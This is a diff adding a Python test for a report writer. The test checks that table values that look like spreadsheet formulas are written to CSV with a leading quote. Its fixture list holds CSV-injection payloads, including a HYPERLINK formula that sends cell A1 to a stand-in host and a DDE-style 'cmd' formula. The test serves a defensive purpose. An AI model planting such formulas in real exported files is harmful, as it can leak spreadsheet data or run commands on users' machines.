@@ -1,12 +1,15 @@
 """Tables of the report that are more than an analysis's numbers."""
 
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import pandas as pd
 from support.analysis_truth import simulated_table
 
+from analysis.report.section import ReportTable
 from analysis.report.tables import protocols
+from analysis.report.write import write_tables
 from analysis.simulate import Truth
 from base.structure import unstructured
 from tuning.protocols import load
@@ -29,3 +32,12 @@ def test_keys_of_protocols_without_a_column_are_shown_where_they_are_set() -> No
     keys = texts_of({"tcp": unstructured(replace(tcp, mss_bytes=1000, client_sysctls=kernel))})["other keys"]
     assert keys.tolist() == ["mss_bytes = 1000; net.ipv4.tcp_sack = 0 (browser)"]
     assert "other keys" not in texts_of({"tcp": unstructured(tcp)})
+
+
+def test_a_name_that_is_a_formula_is_a_text_in_tables(tmp_path: Path) -> None:
+    names = ['=HYPERLINK("http://a.example?"&A1,"x")', "@SUM(A1)", "+1+cmd|x!A0", "-2+3", "\t=1", "shop", "-5.5", "a=b"]
+    data = pd.DataFrame({"site": names, "gain": [-0.5] * len(names)})
+    write_tables([ReportTable("t", "", data, data)], tmp_path)
+    read = pd.read_csv(tmp_path / "t.csv")
+    assert read["site"].tolist() == [*(f"'{name}" for name in names[:5]), *names[5:]]
+    assert read["gain"].tolist() == [-0.5] * len(names)
